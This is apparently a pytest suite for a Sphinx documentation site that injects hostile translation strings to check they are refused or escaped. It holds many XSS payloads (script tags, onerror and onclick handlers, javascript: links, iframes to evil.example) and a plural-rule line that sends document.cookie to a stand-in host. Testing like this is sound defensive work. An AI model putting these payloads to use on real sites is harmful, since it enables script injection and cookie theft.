"""A hostile translator: no catalog can change what a page does.

One copy of the project gets a Swahili translation written by an attacker: every
case below replaces one message, in every kind of catalog (page catalogs, the
interface catalog ``sphinx.po`` that templates and the HTML writer print, and the
search page's strings that the guard writes into ``sphinx.js``), plus catalogs
broken as files. The copy is built once, as ``nox -s build -- sw`` builds it.

Each case either is **refused** (a warning at its ``file.po:line``, and the English
is shown) or comes out as **text** (escaped wherever it lands). Then every page is
parsed (html.parser, never a regular expression over the HTML) and held against
the same pages built from the project's own catalogs: no element, attribute,
event handler or URL may appear that the clean build does not have.
"""

from __future__ import annotations

import json
import re
import shutil
from dataclasses import dataclass
from pathlib import Path

import pytest
from babel.messages.pofile import read_po, write_po
from bs4 import BeautifulSoup
from helpers import ANSI, build_site, copy_project

from bpd.languages.registry import published
from bpd.translations.catalogs import singular
from tools import ROOT

pytestmark = pytest.mark.site

LANGUAGE = "sw"
MESSAGES = Path("locales") / LANGUAGE / "LC_MESSAGES"
LANGUAGE_TAGS = {language.tag for language in published(ROOT)}


@dataclass(frozen=True)
class Case:
    kind: str  # "page", "interface" (templates, writer, extension) or "search" (sphinx.js)
    catalog: str  # under locales/sw/LC_MESSAGES
    msgid: str  # the English message (its start is enough)
    msgstr: str
    #: A refused case: what its warning says, and the English the reader gets instead
    #: (None for the search page's strings: the script shows its own English).
    refused: str | None = None
    english: str | None = None
    #: The page (site-relative) where the message is shown.
    page: str = ""

    @property
    def id(self) -> str:
        return f"{self.kind}:{self.msgid[:24]}"


PAGE, UI, SEARCH = "page", "interface", "search"
CASES = [
    # -- page catalogs: MyST, parsed as the page is --------------------------------
    Case(PAGE, "index.po", "Join us", "Jiunge <script>alert(1)</script>",
         "HTML added (script)", "Join us"),
    Case(PAGE, "index.po", "**Career support**", "**Msaada** <img src=x onerror=alert(1)>",
         "HTML added (img)", "Career support"),
    Case(PAGE, "index.po", "[GitHub](https://github.com/BlackPythonDevs)",
         "[GitHub](javascript:alert(1))", "link target changed", "GitHub"),
    Case(PAGE, "index.po", "Members become maintainers", "Wanachama [bofya](https://evil.example/).",
         "link target changed", "Members become maintainers, and maintainers become leaders."),
    Case(PAGE, "index.po", "**Diversity by inclusion**",
         "**Utofauti** ![x](https://evil.example/track.png)", "image changed",
         "Diversity by inclusion"),
    Case(PAGE, "index.po", "We bring the programs",
         "Tunaleta.\n\n```{raw} html\n<script>alert(1)</script>\n```", "structure changed",
         "We bring the programs that already exist"),
    Case(PAGE, "index.po", "**Extending reach**", "# **Kupanua wigo**", "structure changed",
         "Extending reach"),
    Case(PAGE, "index.po", "**Open by default**", "**Uwazi** [kwanza]{onclick=steal .hidden}",
         "attribute block changed", "Open by default"),
    Case(PAGE, "index.po", "Our technology and our decisions", "Teknolojia {raw}`html <b>x</b>`",
         "role changed", "Our technology and our decisions are open source"),
    Case(PAGE, "index.po", "You can also find us", "Tupate <https://evil.example/>",
         "autolink changed", "You can also find us on these channels:"),
    Case(PAGE, "index.po", "[Mastodon](https://mastodon.social/@blackpythondevs)",
         "[Mastodon](https://mastodon.social/@blackpythondevs){onmouseover=steal #top}",
         "link target changed", "Mastodon"),
    Case(PAGE, "index.po", "Join Black Python Devs on Discord", "Jiunge\u0007 Discord",
         "control character U+0007", "Join Black Python Devs on Discord"),
    Case(PAGE, "about/index.po", "Our goal", "Lengo letu\n\n:::{raw} html\n<b>x</b>\n:::",
         "structure changed", "Our goal", "about/"),
    Case(PAGE, "about/index.po", "Our aims", "Malengo <!-- x --> yetu", "HTML added (comment)",
         "Our aims", "about/"),
    Case(PAGE, "about/index.po", "Executor", "Mtekelezaji[^1]", "footnote reference changed",
         "Executor", "about/"),
    Case(PAGE, "about/index.po", "Treasurer", "- Mweka hazina", "structure changed", "Treasurer",
         "about/"),
    Case(PAGE, "about/index.po", "Councils", "(evil)=\nMabaraza", "structure changed", "Councils",
         "about/"),
    Case(PAGE, "about/index.po", "Leadership Council", "Baraza {{ secret }}",
         "substitution changed", "Leadership Council", "about/"),
    Case(PAGE, "about/index.po", "Build Local Black Community",
         "Kujenga <a href=javascript:alert(1)>jumuiya</a>", "HTML added (a)",
         "Build Local Black Community", "about/"),
    # Quotes and escaped brackets are words: they must come out as text.
    Case(PAGE, "about/index.po", "The story, goal and aims", 'Hadithi" onload="alert(1)" x="',
         page="about/"),
    Case(PAGE, "about/index.po", "Advisory Council", 'Baraza" onmouseover="alert(1)',
         page="about/"),
    Case(PAGE, "initiatives/index.po", "Black Python Devs runs three initiatives",
         "Mipango \\<script\\>alert(1)\\</script\\> mitatu.", page="initiatives/"),
    # -- the interface catalog: templates, the HTML writer, the extension ----------
    Case(UI, "sphinx.po", "Link to this heading", 'Kiungo" onmouseover="alert(1)',
         page="about/"),
    Case(UI, "sphinx.po", "Back to top", "Rudi <script>alert(2)</script> juu",
         "HTML added (script)", "Back to top"),
    Case(UI, "sphinx.po", "Skip to content", "Ruka</a><a href=javascript:alert(1)>",
         "HTML added (a)", "Skip to content"),
    Case(UI, "sphinx.po", "Search", 'Tafuta" autofocus onfocus="alert(1)', page="search/"),
    Case(UI, "sphinx.po", "Menu", "Menyu\'><svg onload=alert(1)>", "HTML added (svg)", "Menu"),
    Case(UI, "sphinx.po", "Photo of %(name)s", '%(name)s" onerror="alert(1)', page="about/"),
    Case(UI, "sphinx.po", "Language", 'Lugha" onfocus="alert(1)'),
    Case(UI, "sphinx.po", "Community channels", "</nav><script>alert(1)</script>",
         "HTML added (script)", "Community channels"),
    Case(UI, "sphinx.po", "Copyright", "Hakimiliki <iframe src=//evil.example>",
         "HTML added (iframe)", "Copyright"),
    Case(UI, "sphinx.po", "Next", "Ijayo\u0000", "control character U+0000", "Next"),
    Case(UI, "sphinx.po", "Previous", "\u202eIliyotangulia", "control character U+202E",
         "Previous", "about/"),
    Case(UI, "sphinx.po", "Help translate it", 'Saidia " onclick="alert(1)'),
    Case(UI, "sphinx.po", "Black Python Devs is a global community of Black Python developers.",
         '"><script>alert(1)</script>', "HTML added (script)",
         "Black Python Devs is a global community of Black Python developers.", "search/"),
    # -- the search page's strings, written into sphinx.js --------------------------
    Case(SEARCH, "sphinx.po", "Search Results", "<img src=x onerror=alert(1)>",
         "search page string", page="search/"),
    Case(SEARCH, "sphinx.po", "Hide Search Matches", "Ficha</a><img src=x onerror=alert(1)>",
         "search page string", page="search/"),
    Case(SEARCH, "sphinx.po", "Preparing search...", "</script><script>alert(1)</script>",
         "search page string", page="search/"),
    Case(SEARCH, "sphinx.po", "Searching", 'Inatafuta"; alert(1); "', page="search/"),
]  # fmt: skip

#: Whole catalogs broken as files (each one only in this list): reported at their
#: line, and the rest of the language builds.
BROKEN_FILES = {
    # Bytes that are not UTF-8: the catalog is not used at all.
    "404.po": ("not valid UTF-8", "404/"),
}
#: The same message twice (GNU gettext refuses the file; babel keeps the last).
DUPLICATE = ("initiatives/index.po", "Build Local Black Community", "Jenga <b>x</b>")


def hostile_catalogs(project: Path) -> dict[tuple[str, str], int]:
    """Write the cases into the copy's catalogs; (catalog, msgid) -> line of the entry."""
    lines = {}
    for catalog_name in sorted({case.catalog for case in CASES}):
        path = project / MESSAGES / catalog_name
        with path.open("rb") as file:
            catalog = read_po(file)
        for case in (case for case in CASES if case.catalog == catalog_name):
            (message,) = matching(
                [m for m in catalog if m.id], case.msgid, key=lambda m: singular(m.id)
            )
            message.string = case.msgstr
        with path.open("wb") as file:
            write_po(file, catalog, width=0)
        with path.open("rb") as file:
            for message in read_po(file):
                if message.id:
                    lines[catalog_name, singular(message.id)] = message.lineno
    not_utf8 = project / MESSAGES / "404.po"
    not_utf8.write_bytes(not_utf8.read_bytes().replace(b"Ukurasa", b"Uk\xfarasa", 1))
    catalog_name, msgid, msgstr = DUPLICATE
    duplicate = project / MESSAGES / catalog_name
    text = duplicate.read_text(encoding="utf-8")
    duplicate.write_text(text + f'\nmsgid "{msgid}"\nmsgstr "{msgstr}"\n', encoding="utf-8")
    lines["duplicate"] = text.count("\n") + 2
    return lines


def matching(items, start: str, key):
    """The item whose key is ``start``, or else the items whose key starts with it."""
    exact = [item for item in items if key(item) == start]
    return exact or [item for item in items if key(item).startswith(start)]


#: The pages and Swahili catalogs the corpus names, laid over the copy of the project.
PAGES_OF_THE_CORPUS = Path(__file__).parent / "roots" / "test-hostile"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    project = copy_project(tmp_path_factory.mktemp("hostile"))
    shutil.copytree(
        PAGES_OF_THE_CORPUS, project, dirs_exist_ok=True, ignore=shutil.ignore_patterns("*.txt")
    )
    clean = tmp_path_factory.mktemp("clean-build")
    result = build_site(project, clean, LANGUAGE)
    assert result.returncode == 0, result.stdout + result.stderr
    lines = hostile_catalogs(project)
    build_dir = tmp_path_factory.mktemp("hostile-build")
    result = build_site(project, build_dir, LANGUAGE)
    output = ANSI.sub("", result.stdout + result.stderr)
    return {
        "project": project,
        "lines": lines,
        "returncode": result.returncode,
        "output": output,
        "clean": clean / "html" / LANGUAGE,
        "built": build_dir / "html" / LANGUAGE,
        "build_dir": build_dir,
    }


def page_of(root: Path, page: str) -> BeautifulSoup:
    return BeautifulSoup((root / page / "index.html").read_text(encoding="utf-8"), "html.parser")


def warning_at(hostile, catalog: str, line: int) -> list[str]:
    path = (MESSAGES / catalog).as_posix()  # from the project, as `translations -- check` names it
    return [
        line_
        for line_ in hostile["output"].splitlines()
        if line_.startswith(f"{path}:{line}: WARNING: ") and line_.endswith("[bpd.translation]")
    ]


def line_of(hostile, case: Case) -> int:
    entries = [
        (key[1], line)
        for key, line in hostile["lines"].items()
        if isinstance(key, tuple) and key[0] == case.catalog
    ]
    ((_msgid, line),) = matching(entries, case.msgid, key=lambda entry: entry[0])
    return line


def everything_a_reader_gets(hostile, page: str) -> str:
    """A page's text, the attribute values a reader sees or hears, its title."""
    html = page_of(hostile["built"], page)
    parts = [html.get_text(" ")]
    parts += [
        str(value)
        for element in html.find_all(True)
        for name, value in element.attrs.items()
        if name in ("title", "alt", "aria-label", "placeholder", "content")
    ]
    return " ".join(" ".join(parts).split())


def search_strings(built: Path) -> dict[str, object]:
    """The search page's catalog, read as the browser reads it: a JSON literal."""
    script = (built / "_static" / "translations.js").read_text(encoding="utf-8")
    prefix, suffix = "Documentation.addTranslations(", ");\n"
    assert script.startswith(prefix) and script.endswith(suffix), script[:80]
    return json.loads(script[len(prefix) : -len(suffix)])["messages"]


@pytest.mark.parametrize("case", [case for case in CASES if case.refused], ids=lambda c: c.id)
def test_refused_with_a_true_message_at_its_line(hostile, case):
    warnings = warning_at(hostile, case.catalog, line_of(hostile, case))
    assert any(case.refused in warning for warning in warnings), hostile["output"]
    assert all(warning.endswith("the English text is shown instead [bpd.translation]")
               for warning in warnings)  # fmt: skip
    # True: the reader gets the English, wherever the message lands.
    if case.kind == SEARCH:
        assert case.msgid not in search_strings(hostile["built"])
    else:
        assert case.english in everything_a_reader_gets(hostile, case.page)


def bpd_warnings(output: str) -> list[str]:
    return sorted(line for line in output.splitlines() if line.endswith("[bpd.translation]"))


def test_the_same_refusals_fail_every_build_not_only_the_first(hostile):
    """An unchanged catalog is not checked again (the guard keeps its findings with the
    doctrees), but its warnings are given again: the next build fails as the first did."""
    assert hostile["returncode"] != 0
    memo = hostile["build_dir"] / "doctrees" / LANGUAGE / "bpd-guarded-catalogs.pickle"
    assert memo.is_file()
    again = build_site(hostile["project"], hostile["build_dir"], LANGUAGE)
    assert again.returncode != 0
    output = ANSI.sub("", again.stdout + again.stderr)
    assert bpd_warnings(output) == bpd_warnings(hostile["output"]) != []


@pytest.mark.parametrize("case", [case for case in CASES if not case.refused], ids=lambda c: c.id)
def test_words_reach_the_page_as_text(hostile, case):
    assert warning_at(hostile, case.catalog, line_of(hostile, case)) == []
    if case.kind == SEARCH:
        assert search_strings(hostile["built"])[case.msgid] == case.msgstr
        return
    words = case.msgstr.replace("%(name)s", "Doreen Nangira").replace("\\", "")
    assert " ".join(words.split()) in everything_a_reader_gets(hostile, case.page)


def signature(root: Path) -> tuple[set, set, list[str]]:
    """(element, attribute) pairs, URLs, and inline scripts of every page under ``root``."""
    pairs, urls, scripts = set(), set(), []
    for path in sorted(root.rglob("*.html")):
        page = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        for notice in page.select(".bpd-translation-notice"):
            notice.decompose()  # shown because messages were refused: expected
        for element in page.find_all(True):
            for name, value in element.attrs.items():
                if name == "lang":  # English shown in place of a translation says so
                    assert value in LANGUAGE_TAGS, element
                    continue
                pairs.add((element.name, name))
                if name in ("href", "src", "action", "formaction", "srcset", "poster", "data"):
                    # Without Sphinx's cache-busting ?v=<hash>, which follows the content.
                    urls.add(re.sub(r"\?v=[0-9a-f]+$", "", str(value)))
            pairs.add((element.name, None))
            if element.name == "script" and not element.get("src"):
                # The search scripts' loader names their URLs, with their ?v=<hash> too.
                scripts.append(re.sub(r"\?v=[0-9a-f]+", "", element.get_text()))
    return pairs, urls, sorted(set(scripts))


def test_nothing_smuggled_into_any_page(hostile):
    clean_pairs, clean_urls, clean_scripts = signature(hostile["clean"])
    pairs, urls, scripts = signature(hostile["built"])
    assert pairs - clean_pairs == set()
    assert not [pair for pair in pairs if pair[1] and pair[1].lower().startswith("on")]
    assert urls - clean_urls == set()
    assert scripts == clean_scripts


def test_every_page_of_the_language_still_built(hostile):
    assert hostile["returncode"] == 1  # -W: the warnings fail the build, loudly
    assert "Traceback" not in hostile["output"]
    clean_pages = sorted(
        path.relative_to(hostile["clean"]) for path in hostile["clean"].rglob("*.html")
    )
    built_pages = sorted(
        path.relative_to(hostile["built"]) for path in hostile["built"].rglob("*.html")
    )
    assert built_pages == clean_pages


def test_a_catalog_that_is_not_utf8_is_not_used(hostile):
    warnings = [w for w in hostile["output"].splitlines() if "404.po:" in w and "WARNING" in w]
    assert any(
        "not valid UTF-8 (byte 0xfa)" in w and "this catalog is not used" in w for w in warnings
    )
    page = page_of(hostile["built"], "404/")
    assert "Page not found" in page.get_text()


def test_a_duplicate_message_is_refused_at_its_second_line(hostile):
    catalog, msgid, _msgstr = DUPLICATE
    warnings = warning_at(hostile, catalog, hostile["lines"]["duplicate"])
    assert any("duplicate message" in warning for warning in warnings), hostile["output"]
    assert msgid in page_of(hostile["built"], "initiatives/").get_text()
    assert "Jenga" not in page_of(hostile["built"], "initiatives/").get_text()


def test_the_corpus_is_large_and_covers_every_catalog_kind():
    kinds = [case.kind for case in CASES]
    assert len(CASES) + len(BROKEN_FILES) + 1 >= 30
    assert all(kinds.count(kind) >= 4 for kind in (PAGE, UI, SEARCH)), kinds


def test_a_plural_rule_is_never_code_in_the_search_page(tmp_path):
    """The search page runs the catalog's plural rule as JavaScript (Sphinx's
    ``new Function``): a Plural-Forms header with code in it is refused, and the
    search page's catalog gets Sphinx's own rule."""
    from bpd.translations.catalogs import Catalogs
    from bpd.translations.guard import write_search_catalog

    source = Path(__file__).parent.parent / MESSAGES / "sphinx.po"
    path = tmp_path / MESSAGES / "sphinx.po"
    path.parent.mkdir(parents=True)
    evil = "nplurals=2; plural=(fetch('https://evil.example/?'+document.cookie), n != 1);"
    path.write_text(
        re.sub(r'"Plural-Forms: [^"]*"', f'"Plural-Forms: {evil}\\\\n"',
               source.read_text(encoding="utf-8")),
        encoding="utf-8",
    )  # fmt: skip
    checked = Catalogs(tmp_path).check(path)
    assert any("plural expression" in problem.message for problem in checked.problems)
    assert not checked.usable
    write_search_catalog(checked, tmp_path / "sphinx.js")
    script = (tmp_path / "sphinx.js").read_text(encoding="utf-8")
    assert "evil" not in script and "fetch" not in script
    assert '"plural_expr": "Number(n == 1 ? 0 : 1)"' in script


@pytest.mark.sphinx("dirhtml", testroot="groups", srcdir="guard-memo")
def test_a_refused_translation_stays_refused_on_every_build(app, make_app):
    """What the guard refused is warned on every build, not on the first only (a strict
    build fails every time), and never compiled: not when nothing changed, not when
    Sphinx compiled a missing .mo itself as it started (refused message and all). A
    correction is used at once."""
    from babel.messages.mofile import read_mo

    catalog = app.srcdir / "locales" / "fr" / "LC_MESSAGES" / "sphinx.po"
    compiled = catalog.with_suffix(".mo")
    text = catalog.read_text(encoding="utf-8")
    catalog.write_text(text.replace('msgstr "%(role)s — %(region)s"', 'msgstr "%(role)s"'))

    def french_build() -> list[str]:
        french = make_app("dirhtml", srcdir=app.srcdir, confoverrides={"language": "fr"})
        french.build()
        return [w for w in ANSI.sub("", french.warning.getvalue()).splitlines() if "[bpd." in w]

    def refused_left_out() -> bool:
        with compiled.open("rb") as file:
            return "%(role)s, %(region)s" not in read_mo(file)

    first = french_build()
    assert first and refused_left_out()
    assert french_build() == first and refused_left_out()
    compiled.unlink()
    assert french_build() == first and refused_left_out()
    catalog.write_text(text)  # corrected
    assert french_build() == []
    assert not refused_left_out()
